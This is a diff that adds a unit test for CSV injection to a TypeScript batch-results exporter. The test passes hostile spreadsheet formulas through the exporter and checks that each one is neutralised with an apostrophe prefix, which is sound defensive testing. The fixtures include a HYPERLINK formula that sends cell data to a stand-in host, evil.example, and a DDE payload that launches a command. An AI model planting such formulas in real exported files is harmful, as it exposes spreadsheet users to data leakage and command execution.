@@ -105,4 +105,28 @@ describe('batch results', () => {
     const sjis = encodeCsv(`${text}𠮷`, 'shift_jis');
     assert.ok(new TextDecoder('shift_jis').decode(sjis).endsWith('試験　太郎,,,0,,\r\n?'));
   });
+
+  it('neutralises cells a spreadsheet would run as a formula (CSV injection)', () => {
+    const hostile: BatchResultRow[] = [
+      {
+        row: 2,
+        outcome: 'valid',
+        problem: false,
+        identifier: '=HYPERLINK("http://evil.example/?"&B2,"開く")',
+        name: '+1+cmd|" /C calc"!A0',
+        kana: '-2+3',
+        message: '@SUM(A1:A2)',
+        code: '\t=1',
+        symbol: '＝1+1',
+      },
+    ];
+    const line = resultsCsv('confirm', hostile).split('\r\n')[1]!;
+    const cells = parseCsv(`${line}\r\n`)[0]!.cells;
+    for (const cell of [cells[2], cells[5], cells[9], cells[10], cells[13], cells[14]]) {
+      assert.ok(cell?.startsWith("'"), `not neutralised: ${cell}`);
+    }
+    assert.equal(cells[2], `'=HYPERLINK("http://evil.example/?"&B2,"開く")`);
+    assert.equal(cells[0], '2', 'numbers stay numbers');
+    assert.equal(resultsCsv('confirm', rows.slice(0, 1)).split('\r\n')[1], '2,有効,,,,,,,,試験　太郎,,,0,,');
+  });
 });
